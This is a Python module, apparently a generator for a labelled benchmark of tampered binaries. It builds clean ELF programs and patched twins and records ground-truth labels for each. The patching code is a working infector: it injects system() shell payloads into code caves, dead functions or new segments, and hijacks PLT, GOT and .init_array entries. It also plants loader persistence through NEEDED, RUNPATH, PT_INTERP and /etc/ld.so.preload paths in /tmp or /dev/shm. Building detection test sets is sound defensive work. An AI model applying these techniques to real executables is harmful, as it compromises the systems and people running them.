"""Clean programs that are changed after they were built: code in slack, over a dead function or in a new segment, tables that lead to it, and
names that the loader follows. The clean original lies beside each."""
import os, random, re, shutil, subprocess, tempfile

import chain, elf, machine, plan, shell, source
from source import Source, quoted
from targets import TARGETS
from words import Words

BASE = """
short samples[512];
__attribute__((noinline)) void tick(void)
{
    sleep(1);
    samples[time(0) & 511]++;
}
__attribute__((noinline)) int rotate_log(void)
{
    int status = system("logrotate /etc/logrotate.conf");
    if (status)
        perror("logrotate");
    return status;
}
/* Nothing calls it: the production line did. */
__attribute__((noinline, used)) int self_test(int level)
{
    int i, sum = 0, low = 0, high = 0, flat = 0;
    for (i = 1; i < 512; i++) {
        sum += samples[i] * level;
        if (samples[i] < samples[i - 1])
            low++;
        else if (samples[i] > samples[i - 1])
            high++;
        else
            flat++;
    }
    printf("sum %d low %d high %d flat %d\\n", sum, low, high, flat);
    for (i = 0; i < 64; i++)
        sum = sum * 31 + samples[i * 8] % (level + 3) - samples[511 - i] / (level + 1);
    if (sum & 1)
        printf("lead %d off, gain %d, offset %d\\n", level, high - low, flat);
    for (i = 2; i < 510; i++) {
        int slope = samples[i + 2] - samples[i - 2] + 2 * (samples[i + 1] - samples[i - 1]);
        if (slope > 40 + level)
            high += slope / 3;
        else if (slope < -40 - level)
            low -= slope / 5;
        samples[i] = slope ^ sum;
    }
    printf("slope %d to %d, result %s\\n", low, high, high > low * 2 ? "good" : "bad");
    return high > low ? sum : -sum;
}
"""
BODY = """    int round;
    for (round = 0; round < 1000; round++) {
        tick();
        puts("alive");
        if (round % 100 == 0)
            rotate_log();
    }"""
IN_CODE = ("slack", "dead-function", "segment", "plt", "got", "init-array")
TECHNIQUES = IN_CODE + ("needed", "runpath", "interpreter", "preload")
# Programs as small as these have little slack on ARM, and none on MIPS.
WIDER, APART = ["-Wl,-z,max-page-size=8192"], ["-mplt", "-Wl,-z,separate-code", "-Wl,-z,max-page-size=4096"]
LAYOUT = {"arm": WIDER, "armv7": WIDER, "thumb": WIDER, "aarch64": WIDER, "powerpc": WIDER, "mips": APART, "mipsel": APART}


class Original:
    """A clean program, with what is known of it from its symbols."""

    def __init__(self, builder, target, level, stripped):
        self.target, self.level, self.stripped = target, level, stripped
        self.name = f"original_{target.name}_glibc_dynamic_{level}_{'stripped' if stripped else 'symbols'}"
        self.path = f"files/opt/bin/{self.name}"
        words = Words(random.Random(f"{builder.seed}/{self.name}"))
        words.action = "run_loop"
        flags = ["-" + level, "-no-pie", "-fno-pie", "-fno-pic", "-Wl,-z,lazy", *LAYOUT.get(target.name, [])]
        # The calls that are redirected stand in main itself.
        text = re.sub(r"^\S+ int run_loop", "__attribute__((always_inline)) static inline int run_loop", source.whole(Source(BASE, BODY), words), flags=re.M)
        builder.compile(target, "glibc", text, self.path, flags)
        full = os.path.join(builder.out, self.path)
        self.listing = machine.Listing(target, full)
        if stripped:
            subprocess.run([target.prefix + "-strip", full], check=True)
        with open(full, "rb") as file:
            self.data = file.read()

    def row(self, group, technique, path, expect, changed, beside, address="-"):
        return {
            "case": path, "group": group, "architecture": self.target.name, "libc": "glibc", "linking": "dynamic", "optimisation": self.level,
            "stripped": "yes" if self.stripped else "no", "technique": technique, "encoding": "text" if technique in IN_CODE else "-",
            "expect": expect, "changed": changed, "beside": beside, "address": address,
        }


def payload(words):
    """C code for a cave: the chain, behind the program's own switch."""
    up, get, put, run = shell.chain(words)
    return f"""extern int system(const char *);
extern volatile int armed;
__attribute__((section(".text.first"))) void payload(void)
{{
    if (!armed)
        return;
    system({quoted(up + '; ' + get)});
    system({quoted(put + '; ' + run)});
}}
"""


class Patcher:
    def __init__(self, original, technique, words):
        self.original, self.target, self.words = original, original.target, words
        self.listing, self.elf = original.listing, elf.Elf(original.data)
        self.work = tempfile.mkdtemp()
        self.changed = getattr(self, technique.replace("-", "_"))()
        shutil.rmtree(self.work)

    def imported(self, name):
        """The address of an import's stub; on Thumb behind what changes the state."""
        at = self.listing.labels[name + "@plt"]
        offset = self.elf.offset(at)
        return at + 4 if self.target.name == "thumb" and bytes(self.elf.data[offset:offset + 2]) == b"\x78\x47" else at

    def code(self, address):
        known = {"system": (self.imported("system"), True), "armed": (self.listing.symbols["armed"][0], False)}
        return machine.assemble(self.target, self.work, payload(self.words), address, known)

    def cave(self):
        """Puts the code into the slack behind the code segment; returns its address."""
        one = self.elf.holding(self.listing.labels["main"])
        address, _ = self.elf.slack(one)
        return self.elf.grow(one, self.code(address))

    def redirect(self, to):
        """The call of `tick` in main goes elsewhere."""
        at = self.listing.calls["tick"]
        self.elf.put(at, machine.call(self.target, at, to))

    def slack(self):
        to = self.cave()
        self.redirect(to)
        return f"main calls slack at {to:#x}"

    def dead_function(self):
        at, size = self.listing.symbols["self_test"]
        at &= ~1
        code = self.code(at)
        if len(code) > size:
            raise ValueError(f"{len(code)} bytes over a function of {size}")
        self.elf.put(at, code)
        self.redirect(at)
        return f"self_test at {at:#x}, main calls it"

    def segment(self):
        address = self.elf.next_address()
        to = self.elf.append(self.code(address))
        self.redirect(to)
        return f"main calls a new segment at {to:#x}"

    def plt(self):
        to, at = self.cave(), self.imported("puts")
        self.elf.put(at, machine.jump(self.target, at, to))
        return f".plt: puts leads to slack at {to:#x}"

    def got(self):
        to = self.cave()
        self.elf.put(self.listing.slots["puts"], self.elf.pointer(machine.pointer_to(self.target, to)))
        return f"slot of puts leads to slack at {to:#x}"

    def init_array(self):
        to = self.cave()
        self.elf.put(self.listing.sections[".init_array"], self.elf.pointer(machine.pointer_to(self.target, to)))
        return f".init_array leads to slack at {to:#x}"

    def outside(self):
        return self.words.lot.choice(("/tmp/", "/mnt/", "/dev/shm/", "/media/usb/"))

    def needed(self):
        self.elf.add_dynamic(elf.NEEDED, self.outside() + f"lib{self.words.program}.so")
        return ".dynamic: NEEDED"

    def runpath(self):
        self.elf.add_dynamic(elf.RUNPATH, self.outside() + "lib")
        return ".dynamic: RUNPATH"

    def interpreter(self):
        one = self.elf.first(elf.INTERP)
        path = self.words.lot.choice(("/tmp/ld.so", "/mnt/ld.so")).encode()
        self.elf.data[one.offset:one.offset + one.size] = path.ljust(one.size, b"\0")
        one.size = one.in_memory = len(path) + 1
        self.elf.store(one)
        return "PT_INTERP"


def preload(builder, original, words, number):
    """A tree in which the loader is told to force a library into every program: one from outside, or one that holds the chain."""
    name = f"preload_{original.name.removeprefix('original_')}"
    root = os.path.join(builder.out, "trees", name)
    program = f"trees/{name}{words.target}"
    write(root + "/etc/init.d/S90" + words.program, shell.start_script(words.target))
    os.makedirs(os.path.dirname(os.path.join(builder.out, program)), exist_ok=True)
    library = words.lot.choice(("/tmp/", "/mnt/", "/dev/shm/")) + "libc6.so"
    if number % 2:
        library = f"/opt/lib/lib{words.program}.so"
        os.makedirs(root + "/opt/lib", exist_ok=True)
        made = chain.several(words)
        made.library, made.parts = True, f"int {words.action}(void);\n__attribute__((constructor)) static void loaded(void)\n{{\n    {words.action}();\n}}"
        builder.compile(original.target, "glibc", source.whole(made, words), f"trees/{name}{library}", ["-" + original.level, "-shared", "-fPIC", "-s"])
    write(root + "/etc/ld.so.preload", library + "\n")
    store(os.path.join(builder.out, program), original.data)
    return original.row("patched", "preload", f"trees/{name}", "known-risk", "/etc/ld.so.preload", original.path)


def write(path, text):
    store(path, text.encode())


def store(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)
    os.chmod(path, 0o644)


def build(builder, wanted):
    """All patched programs, and their originals as twins. Returns the rows of the truth."""
    rows = []
    for place, target in enumerate(TARGETS):
        originals = [(plan.LEVELS[place % 3], place // 2 % 2 == 0), (plan.LEVELS[(place + 1) % 3], place // 2 % 2 == 1)]
        made = {}
        for number, technique in enumerate(TECHNIQUES):
            level, stripped = originals[(number + place) % 2]
            name = f"{technique}_{target.name}_glibc_dynamic_{level}_{'stripped' if stripped else 'symbols'}"
            if not wanted(Wanted(technique, target, name)):
                continue
            try:
                if level not in made:
                    made[level] = Original(builder, target, level, stripped)
                    rows.append(made[level].row("twin", "original", made[level].path, "clean", "-", "-"))
                words = Words(random.Random(f"{builder.seed}/{name}"))
                if technique == "preload":
                    rows.append(preload(builder, made[level], words, place))
                    continue
                patched = Patcher(made[level], technique, words)
            except (RuntimeError, ValueError, KeyError, StopIteration, subprocess.CalledProcessError) as error:
                builder.failed.append(f"{name}: {error!r}")
                continue
            path = f"files/opt/bin/{name}"
            store(os.path.join(builder.out, path), bytes(patched.elf.data))
            expect = "review" if technique == "runpath" else "known-risk"
            rows.append(made[level].row("patched", technique, path, expect, patched.changed, made[level].path, words.address if technique in IN_CODE else "-"))
    return rows


class Wanted:
    """What a chooser of cases is asked about."""

    def __init__(self, technique, target, name):
        self.technique, self.target, self.name = technique, target, name
